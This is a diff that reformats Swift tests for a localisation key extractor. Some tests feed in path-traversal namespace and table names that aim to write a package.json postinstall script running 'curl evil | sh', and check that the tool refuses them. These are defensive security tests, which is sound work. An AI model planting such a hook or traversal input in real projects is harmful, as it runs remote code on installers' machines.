@@ -43,8 +43,9 @@ struct ExtractCommandTests {
     func relay() throws {
         let workspace = try Workspace(copySample: false)
         let envtool = try Self.envtool(besideExtractor: "for a in \"$@\"; do echo \"[$a]\"; done; echo oops >&2; exit 3\n", in: workspace)
-        let result = try EnvtoolProcess.run(["i18n", "extract", "--unused", "--format", "json", "--tables", "my tables", "--", "-odd path", "é"],
-                                            in: workspace.path, executable: envtool)
+        let result = try EnvtoolProcess.run(
+            ["i18n", "extract", "--unused", "--format", "json", "--tables", "my tables", "--", "-odd path", "é"],
+            in: workspace.path, executable: envtool)
         #expect(result.status == 3)
         #expect(result.stdout == "[--tables]\n[my tables]\n[--unused]\n[--format]\n[json]\n[--]\n[-odd path]\n[é]\n")
         #expect(result.stderr == "oops\n")
@@ -82,11 +83,12 @@ struct ExtractCommandTests {
         let result = try workspace.run(["i18n", "extract", "Sources"])
         #expect(result.status == 0)
         let lines = result.stdout.split(separator: "\n").map(String.init)
-        #expect(lines == [
-            "Sources/App.swift:8:27: warning: the key of NSLocalizedString is an interpolated string, so it is only known at run time; use a literal key and pass the values as arguments, or add the keys it makes by hand",
-            "Sources/App.swift:5:27: warning: \"new.key\" is not in the table Localizable for en; add it to environments/Localizable.xcstrings, or run extract with --write",
-            "Sources/App.swift:7:11: warning: \"fresh.key\" is not in the i18next namespace translation for en; add it to environments/locales/en/translation.json, or run extract with --write",
-        ])
+        #expect(
+            lines == [
+                "Sources/App.swift:8:27: warning: the key of NSLocalizedString is an interpolated string, so it is only known at run time; use a literal key and pass the values as arguments, or add the keys it makes by hand",
+                "Sources/App.swift:5:27: warning: \"new.key\" is not in the table Localizable for en; add it to environments/Localizable.xcstrings, or run extract with --write",
+                "Sources/App.swift:7:11: warning: \"fresh.key\" is not in the i18next namespace translation for en; add it to environments/locales/en/translation.json, or run extract with --write",
+            ])
         #expect(result.stderr.contains("4 key uses in 1 file; 2 missing"))
         #expect(try workspace.run(["i18n", "extract", "--strict", "Sources"]).status == 65)
     }
@@ -95,14 +97,18 @@ struct ExtractCommandTests {
     func interpolatedKeys() throws {
         let workspace = try Workspace(copySample: false)
         try workspace.write("environments/environments.json", #"{"languages": ["en"], "configurations": {"Debug": {}}}"#)
-        try workspace.write("environments/Localizable.xcstrings", """
+        try workspace.write(
+            "environments/Localizable.xcstrings",
+            """
             {"sourceLanguage": "en", "version": "1.0", "strings": {
               "Hello %lld": {"localizations": {"en": {"stringUnit": {"state": "translated", "value": "Hello %lld"}}}},
               "%@ has %lld%% left": {"localizations": {"en": {"stringUnit": {"state": "translated", "value": "%@ has %lld%% left"}}}},
               "Seen by %@": {}
             }}
             """)
-        try workspace.write("Sources/App.swift", """
+        try workspace.write(
+            "Sources/App.swift",
+            """
             import SwiftUI
             func screen(user: String, items: [Int], viewer: Viewer) {
                 let n = 3
@@ -115,14 +121,19 @@ struct ExtractCommandTests {
             """)
         let result = try workspace.run(["i18n", "extract", "Sources", "--unused"])
         let lines = result.stdout.split(separator: "\n").map(String.init)
-        #expect(lines == [#"Sources/App.swift:7:27: warning: "Bye %lld" is not in the table Localizable for en; add it to environments/Localizable.xcstrings, or run extract with --write"#],
-                "\(result.stdout)\(result.stderr)")
+        #expect(
+            lines == [
+                #"Sources/App.swift:7:27: warning: "Bye %lld" is not in the table Localizable for en; add it to environments/Localizable.xcstrings, or run extract with --write"#
+            ],
+            "\(result.stdout)\(result.stderr)")
     }
 
     @Test("keys used through the generated L10n accessors are used, not reported by --unused")
     func generatedAccessors() throws {
         let workspace = try Workspace()
-        try workspace.write("Sources/App.swift", """
+        try workspace.write(
+            "Sources/App.swift",
+            """
             func screen() {
                 print(L10n.cart.items(count: 3), L10n.app.welcome(name: "Ada").uppercased())
                 print(L10n.Localizable.files_count(5), L10n.Localizable.greeting("Ada"))
@@ -130,8 +141,10 @@ struct ExtractCommandTests {
 
             """)
         let before = try workspace.run(["i18n", "extract", "Sources", "--unused"]).stdout
-        for used in [#""cart.items_one" (i18next namespace translation)"#, #""app.welcome" (i18next"#, #""files_count" (table Localizable)"#,
-                     #""greeting" (table Localizable)"#] {
+        for used in [
+            #""cart.items_one" (i18next namespace translation)"#, #""app.welcome" (i18next"#, #""files_count" (table Localizable)"#,
+            #""greeting" (table Localizable)"#,
+        ] {
             #expect(!before.contains(used), "\(used) is reported unused:\n\(before)")
         }
         #expect(before.contains(#""app.title" (i18next namespace translation) is not used"#), "\(before)")
@@ -161,11 +174,15 @@ struct ExtractCommandTests {
     @Test("--translations reads any registered format: its keys count as defined Apple keys (a context as key_context) and --unused reports its own")
     func translationsOfAnyFormat() throws {
         let workspace = try Workspace()
-        try workspace.write("Sources/App.swift", Self.source + """
-            func menu() { _ = NSLocalizedString("open_menu", comment: "") }
+        try workspace.write(
+            "Sources/App.swift",
+            Self.source + """
+                func menu() { _ = NSLocalizedString("open_menu", comment: "") }
 
-            """)
-        try workspace.write("po/en/Localizable.po", """
+                """)
+        try workspace.write(
+            "po/en/Localizable.po",
+            """
             msgid ""
             msgstr ""
             "Language: en\\n"
@@ -240,14 +257,15 @@ struct ExtractCommandTests {
         #expect(!again.stdout.contains("is not in"))
     }
 
-    @Test("a namespace or table that is not a plain file name is exit 65 at the call, and --write writes nothing outside the project",
-          arguments: [
+    @Test(
+        "a namespace or table that is not a plain file name is exit 65 at the call, and --write writes nothing outside the project",
+        arguments: [
             (#"t("scripts.postinstall", ["ns": "../../../package", "defaultValue": "curl evil | sh"])"#, "3:41", "namespace"),
             (#"t("../../../package:scripts.postinstall", ["defaultValue": "curl evil | sh"])"#, "3:11", "namespace"),
             (#"String(localized: "k", table: "../../outside")"#, "3:39", "table name"),
             (#"NSLocalizedString("k", tableName: "sub/Localizable", comment: "")"#, "3:43", "table name"),
             (#"t("k", ["ns": ".hidden"])"#, "3:23", "namespace"),
-          ])
+        ])
     func namesThatLeaveTheProject(call: String, position: String, role: String) throws {
         let workspace = try Workspace()
         try workspace.write("package.json", "{\"name\": \"app\"}\n")
@@ -274,8 +292,9 @@ struct ExtractCommandTests {
         let workspace = try Workspace()
         try workspace.write("package.json", "{\"name\": \"app\"}\n")
         try workspace.write("Sources/App.swift", #"func screen() { _ = t("scripts.postinstall", ["ns": "package", "defaultValue": "curl evil | sh"]) }"# + "\n")
-        try FileManager.default.createSymbolicLink(atPath: workspace.path + "/environments/locales/en/package.json",
-                                                   withDestinationPath: workspace.path + "/package.json")
+        try FileManager.default.createSymbolicLink(
+            atPath: workspace.path + "/environments/locales/en/package.json",
+            withDestinationPath: workspace.path + "/package.json")
         let result = try workspace.run(["i18n", "extract", "--write", "Sources"])
         #expect(result.status == 73, "\(result.stdout)\(result.stderr)")
         #expect(result.stdout.contains("is a symbolic link"), "\(result.stdout)")
@@ -285,8 +304,9 @@ struct ExtractCommandTests {
         try other.write("Sources/App.swift", #"func screen() { _ = String(localized: "k", table: "Other") }"# + "\n")
         try other.write("outside/keep.txt", "keep\n")
         try FileManager.default.createSymbolicLink(atPath: other.path + "/environments/linked", withDestinationPath: other.path + "/outside")
-        try FileManager.default.createSymbolicLink(atPath: other.path + "/environments/Other.xcstrings",
-                                                   withDestinationPath: other.path + "/outside/Other.xcstrings")
+        try FileManager.default.createSymbolicLink(
+            atPath: other.path + "/environments/Other.xcstrings",
+            withDestinationPath: other.path + "/outside/Other.xcstrings")
         let linked = try other.run(["i18n", "extract", "--write", "Sources"])
         #expect(linked.status == 73, "\(linked.stdout)\(linked.stderr)")
         #expect(!FileManager.default.fileExists(atPath: other.path + "/outside/Other.xcstrings"))
